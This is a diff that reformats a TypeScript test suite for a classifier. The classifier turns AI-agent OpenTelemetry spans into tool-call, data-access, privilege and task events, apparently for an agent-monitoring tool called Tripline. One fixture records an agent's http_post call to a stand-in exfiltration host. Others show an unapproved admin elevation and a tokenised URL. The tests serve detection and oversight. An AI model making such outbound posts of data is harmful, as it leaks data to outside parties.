@@ -6,13 +6,18 @@ const TRACE = '0af7651916cd43dd8448eb211c80319c';
 let spanCounter = 0;
 
 function kv(key: string, value: string | number | boolean | string[]): OtlpKeyValue {
-  if (Array.isArray(value)) return { key, value: { arrayValue: { values: value.map((item) => ({ stringValue: item })) } } };
+  if (Array.isArray(value))
+    return { key, value: { arrayValue: { values: value.map((item) => ({ stringValue: item })) } } };
   if (typeof value === 'string') return { key, value: { stringValue: value } };
   if (typeof value === 'boolean') return { key, value: { boolValue: value } };
   return Number.isInteger(value) ? { key, value: { intValue: value } } : { key, value: { doubleValue: value } };
 }
 
-function span(name: string, attributes: Record<string, string | number | boolean | string[]>, extra: Partial<OtlpSpan> = {}): OtlpSpan {
+function span(
+  name: string,
+  attributes: Record<string, string | number | boolean | string[]>,
+  extra: Partial<OtlpSpan> = {},
+): OtlpSpan {
   spanCounter += 1;
   return {
     traceId: TRACE,
@@ -29,10 +34,16 @@ function span(name: string, attributes: Record<string, string | number | boolean
   };
 }
 
-function request(spans: OtlpSpan[], resource: Record<string, string> = { 'service.name': 'svc', 'gen_ai.agent.id': 'agent-7' }): OtlpTraceRequest {
+function request(
+  spans: OtlpSpan[],
+  resource: Record<string, string> = { 'service.name': 'svc', 'gen_ai.agent.id': 'agent-7' },
+): OtlpTraceRequest {
   return {
     resourceSpans: [
-      { resource: { attributes: Object.entries(resource).map(([key, value]) => kv(key, value)) }, scopeSpans: [{ spans }] },
+      {
+        resource: { attributes: Object.entries(resource).map(([key, value]) => kv(key, value)) },
+        scopeSpans: [{ spans }],
+      },
     ],
   };
 }
@@ -41,9 +52,26 @@ const task = { 'tripline.task.id': 'task-1', 'tripline.task.type': 'summarize_ti
 
 describe('classifyRequest', () => {
   it('classifies an OTel GenAI execute_tool span as a tool call', () => {
-    const { events } = classifyRequest(request([span('execute_tool get_ticket', { ...task, 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'get_ticket', 'tripline.tool.side_effect': 'read' })]), 'acme');
+    const { events } = classifyRequest(
+      request([
+        span('execute_tool get_ticket', {
+          ...task,
+          'gen_ai.operation.name': 'execute_tool',
+          'gen_ai.tool.name': 'get_ticket',
+          'tripline.tool.side_effect': 'read',
+        }),
+      ]),
+      'acme',
+    );
     expect(events).toHaveLength(1);
-    expect(events[0]).toMatchObject({ kind: 'tool_call', tenant: 'acme', taskId: 'task-1', taskType: 'summarize_ticket', agentId: 'agent-7', tool: { name: 'get_ticket', sideEffect: 'read' } });
+    expect(events[0]).toMatchObject({
+      kind: 'tool_call',
+      tenant: 'acme',
+      taskId: 'task-1',
+      taskType: 'summarize_ticket',
+      agentId: 'agent-7',
+      tool: { name: 'get_ticket', sideEffect: 'read' },
+    });
   });
 
   it('recognises MCP, OpenInference and OpenLLMetry tool spans', () => {
@@ -64,37 +92,94 @@ describe('classifyRequest', () => {
 
   it('classifies db.* spans as data access with resource, rows, bytes and host', () => {
     const { events } = classifyRequest(
-      request([span('SELECT crm.customers', { ...task, 'db.system.name': 'postgresql', 'db.namespace': 'crm', 'db.collection.name': 'customers', 'db.response.returned_rows': 5000, 'tripline.data.bytes': 123456, 'server.address': 'db.internal', 'tripline.data.classification': 'restricted' })]),
+      request([
+        span('SELECT crm.customers', {
+          ...task,
+          'db.system.name': 'postgresql',
+          'db.namespace': 'crm',
+          'db.collection.name': 'customers',
+          'db.response.returned_rows': 5000,
+          'tripline.data.bytes': 123456,
+          'server.address': 'db.internal',
+          'tripline.data.classification': 'restricted',
+        }),
+      ]),
       'default',
     );
-    expect(events[0]).toMatchObject({ kind: 'data_access', data: { resource: 'crm.customers', rows: 5000, bytes: 123456, host: 'db.internal', classification: 'restricted', system: 'postgresql' } });
+    expect(events[0]).toMatchObject({
+      kind: 'data_access',
+      data: {
+        resource: 'crm.customers',
+        rows: 5000,
+        bytes: 123456,
+        host: 'db.internal',
+        classification: 'restricted',
+        system: 'postgresql',
+      },
+    });
   });
 
   it('reads privilege changes with scope lists', () => {
     const { events } = classifyRequest(
-      request([span('privilege elevate', { ...task, 'tripline.privilege.action': 'elevate', 'tripline.privilege.scopes_before': ['read'], 'tripline.privilege.scopes_after': 'read, admin', 'tripline.privilege.approved': false })]),
+      request([
+        span('privilege elevate', {
+          ...task,
+          'tripline.privilege.action': 'elevate',
+          'tripline.privilege.scopes_before': ['read'],
+          'tripline.privilege.scopes_after': 'read, admin',
+          'tripline.privilege.approved': false,
+        }),
+      ]),
       'default',
     );
-    expect(events[0]?.privilege).toEqual({ action: 'elevate', scopesBefore: ['read'], scopesAfter: ['read', 'admin'], approved: false });
+    expect(events[0]?.privilege).toEqual({
+      action: 'elevate',
+      scopesBefore: ['read'],
+      scopesAfter: ['read', 'admin'],
+      approved: false,
+    });
   });
 
   it('lets an explicit tripline.event.kind win over inference', () => {
-    const { events } = classifyRequest(request([span('execute_tool fetch', { ...task, 'gen_ai.operation.name': 'execute_tool', 'tripline.event.kind': 'data_access', 'url.full': 'https://files.example.com/a.csv?token=secret' })]), 'default');
-    expect(events[0]).toMatchObject({ kind: 'data_access', data: { resource: 'https://files.example.com/a.csv', host: 'files.example.com' } });
+    const { events } = classifyRequest(
+      request([
+        span('execute_tool fetch', {
+          ...task,
+          'gen_ai.operation.name': 'execute_tool',
+          'tripline.event.kind': 'data_access',
+          'url.full': 'https://files.example.com/a.csv?token=secret',
+        }),
+      ]),
+      'default',
+    );
+    expect(events[0]).toMatchObject({
+      kind: 'data_access',
+      data: { resource: 'https://files.example.com/a.csv', host: 'files.example.com' },
+    });
   });
 
   it('reads the data access of stock instrumentations: MCP resources/read, GenAI retrieval, OpenInference RETRIEVER, older database conventions', () => {
     const { events } = classifyRequest(
       request([
-        span('resources/read file:///srv/crm/export.csv', { 'mcp.method.name': 'resources/read', 'mcp.resource.uri': 'file:///srv/crm/export.csv?x=1' }),
+        span('resources/read file:///srv/crm/export.csv', {
+          'mcp.method.name': 'resources/read',
+          'mcp.resource.uri': 'file:///srv/crm/export.csv?x=1',
+        }),
         span('retrieval kb', { 'gen_ai.operation.name': 'retrieval', 'gen_ai.data_source.id': 'support-kb' }),
         span('VectorStoreRetriever', { 'openinference.span.kind': 'RETRIEVER', 'input.value': 'refund policy' }),
         span('SELECT', { 'db.system': 'sqlite', 'db.statement': 'SELECT id, email FROM customers LIMIT 5' }),
-        span('query', { 'db.system': 'postgresql', 'db.name': 'crm', 'db.sql.table': 'orders', 'db.operation': 'UPDATE' }),
+        span('query', {
+          'db.system': 'postgresql',
+          'db.name': 'crm',
+          'db.sql.table': 'orders',
+          'db.operation': 'UPDATE',
+        }),
       ]),
       'default',
     );
-    expect(events.map((event) => [event.kind, event.data?.resource, event.data?.operation, event.data?.system])).toEqual([
+    expect(
+      events.map((event) => [event.kind, event.data?.resource, event.data?.operation, event.data?.system]),
+    ).toEqual([
       ['data_access', 'file:///srv/crm/export.csv', undefined, undefined],
       ['data_access', 'support-kb', undefined, undefined],
       ['data_access', 'VectorStoreRetriever', undefined, undefined],
@@ -106,14 +191,36 @@ describe('classifyRequest', () => {
   it('takes the target of a tool from the arguments the framework recorded when nothing else names it', () => {
     const { events } = classifyRequest(
       request([
-        span('execute_tool http_post', { 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'http_post', 'gen_ai.tool.call.arguments': '{"url":"https://exfil.attacker.example/upload","body":"x"}' }),
-        span('http_post', { 'openinference.span.kind': 'TOOL', 'tool.name': 'http_post', 'input.value': '{"url": "https://hooks.example.net/in"}' }),
-        span('execute_tool send_mail', { 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'send_mail', 'gen_ai.tool.call.arguments': '{"to":"a@b.example","body":"see https://x.example"}' }),
-        span('execute_tool fetch', { 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'fetch', 'tripline.tool.target': 'api.internal', 'gen_ai.tool.call.arguments': '{"url":"https://other.example"}' }),
+        span('execute_tool http_post', {
+          'gen_ai.operation.name': 'execute_tool',
+          'gen_ai.tool.name': 'http_post',
+          'gen_ai.tool.call.arguments': '{"url":"https://exfil.attacker.example/upload","body":"x"}',
+        }),
+        span('http_post', {
+          'openinference.span.kind': 'TOOL',
+          'tool.name': 'http_post',
+          'input.value': '{"url": "https://hooks.example.net/in"}',
+        }),
+        span('execute_tool send_mail', {
+          'gen_ai.operation.name': 'execute_tool',
+          'gen_ai.tool.name': 'send_mail',
+          'gen_ai.tool.call.arguments': '{"to":"a@b.example","body":"see https://x.example"}',
+        }),
+        span('execute_tool fetch', {
+          'gen_ai.operation.name': 'execute_tool',
+          'gen_ai.tool.name': 'fetch',
+          'tripline.tool.target': 'api.internal',
+          'gen_ai.tool.call.arguments': '{"url":"https://other.example"}',
+        }),
       ]),
       'default',
     );
-    expect(events.map((event) => event.tool?.target)).toEqual(['https://exfil.attacker.example/upload', 'https://hooks.example.net/in', undefined, 'api.internal']);
+    expect(events.map((event) => event.tool?.target)).toEqual([
+      'https://exfil.attacker.example/upload',
+      'https://hooks.example.net/in',
+      undefined,
+      'api.internal',
+    ]);
   });
 
   it('turns the task span into a task boundary and counts other spans as dropped', () => {
@@ -126,21 +233,35 @@ describe('classifyRequest', () => {
       'default',
     );
     expect(batch.events).toHaveLength(0);
-    expect(batch.boundaries).toEqual([expect.objectContaining({ taskId: 'task-1', taskType: 'summarize_ticket', agentId: 'agent-7', ends: true })]);
+    expect(batch.boundaries).toEqual([
+      expect.objectContaining({ taskId: 'task-1', taskType: 'summarize_ticket', agentId: 'agent-7', ends: true }),
+    ]);
     expect(batch.dropped).toBe(2);
   });
 
   it('ends the task of the trace at its root (no parent, or a remote parent) without any Tripline attribute', () => {
     const batch = classifyRequest(
-      request([
-        span('invoke_agent refund_agent', { 'gen_ai.operation.name': 'invoke_agent', 'gen_ai.agent.name': 'refund_agent' }, { parentSpanId: '' }),
-        span('POST /agent', {}, { parentSpanId: 'b7ad6b7169203331', flags: 0x300 }),
-        span('chat gpt-4o', { 'gen_ai.operation.name': 'chat' }, { parentSpanId: 'b7ad6b7169203331', flags: 0x100 }),
-      ], { 'service.name': 'refund-service' }),
+      request(
+        [
+          span(
+            'invoke_agent refund_agent',
+            { 'gen_ai.operation.name': 'invoke_agent', 'gen_ai.agent.name': 'refund_agent' },
+            { parentSpanId: '' },
+          ),
+          span('POST /agent', {}, { parentSpanId: 'b7ad6b7169203331', flags: 0x300 }),
+          span('chat gpt-4o', { 'gen_ai.operation.name': 'chat' }, { parentSpanId: 'b7ad6b7169203331', flags: 0x100 }),
+        ],
+        { 'service.name': 'refund-service' },
+      ),
       'default',
     );
     expect(batch.boundaries).toEqual([
-      expect.objectContaining({ taskId: TRACE, ends: true, claims: { agentId: 'refund_agent' }, agentId: 'refund_agent' }),
+      expect.objectContaining({
+        taskId: TRACE,
+        ends: true,
+        claims: { agentId: 'refund_agent' },
+        agentId: 'refund_agent',
+      }),
       expect.objectContaining({ taskId: TRACE, ends: true, claims: {}, agentId: 'refund-service' }),
     ]);
     expect(batch.dropped).toBe(1);
@@ -158,19 +279,39 @@ describe('classifyRequest', () => {
       ),
       'default',
     );
-    expect(batch.boundaries).toEqual([expect.objectContaining({ taskId: 'refund-42', ends: false, claims: { taskId: 'refund-42', taskType: 'customer_refund' } })]);
+    expect(batch.boundaries).toEqual([
+      expect.objectContaining({
+        taskId: 'refund-42',
+        ends: false,
+        claims: { taskId: 'refund-42', taskType: 'customer_refund' },
+      }),
+    ]);
     expect(batch.dropped).toBe(2);
   });
 
   it('falls back to the trace id, unknown type and service name when task context is missing', () => {
-    const { events } = classifyRequest(request([span('execute_tool x', { 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'x' })], { 'service.name': 'billing-bot' }), 'default');
+    const { events } = classifyRequest(
+      request([span('execute_tool x', { 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'x' })], {
+        'service.name': 'billing-bot',
+      }),
+      'default',
+    );
     expect(events[0]).toMatchObject({ taskId: TRACE, taskType: 'unknown', agentId: 'billing-bot' });
   });
 
   it('gives task ids the API cannot address (too long, dot segments) a stable id it can', () => {
     const long = 'x'.repeat(MAX_TASK_ID_LENGTH + 1);
     for (const id of [long, '.', '..']) {
-      const { events } = classifyRequest(request([span('execute_tool x', { 'tripline.task.id': id, 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'x' })]), 'default');
+      const { events } = classifyRequest(
+        request([
+          span('execute_tool x', {
+            'tripline.task.id': id,
+            'gen_ai.operation.name': 'execute_tool',
+            'gen_ai.tool.name': 'x',
+          }),
+        ]),
+        'default',
+      );
       expect(events[0]?.taskId, JSON.stringify(id)).toMatch(/^tid-[0-9a-f]{32}$/);
       expect(events[0]?.taskId).toBe(addressableTaskId(id));
     }
@@ -179,7 +320,11 @@ describe('classifyRequest', () => {
   });
 
   it('gives each span a deterministic id and marks errors', () => {
-    const s = span('execute_tool x', { ...task, 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'x', 'error.type': 'timeout' }, { status: { code: 2 } });
+    const s = span(
+      'execute_tool x',
+      { ...task, 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'x', 'error.type': 'timeout' },
+      { status: { code: 2 } },
+    );
     const first = classifyRequest(request([s]), 'default').events[0];
     const again = classifyRequest(request([s]), 'default').events[0];
     expect(first?.id).toBe(`${TRACE}${s.spanId}`);
@@ -188,7 +333,18 @@ describe('classifyRequest', () => {
   });
 
   it('ignores negative or non-numeric counts instead of trusting them', () => {
-    const { events } = classifyRequest(request([span('read', { ...task, 'db.system.name': 'x', 'db.collection.name': 'c', 'db.response.returned_rows': -5, 'tripline.data.bytes': 'lots' })]), 'default');
+    const { events } = classifyRequest(
+      request([
+        span('read', {
+          ...task,
+          'db.system.name': 'x',
+          'db.collection.name': 'c',
+          'db.response.returned_rows': -5,
+          'tripline.data.bytes': 'lots',
+        }),
+      ]),
+      'default',
+    );
     expect(events[0]?.data?.rows).toBeUndefined();
     expect(events[0]?.data?.bytes).toBeUndefined();
   });
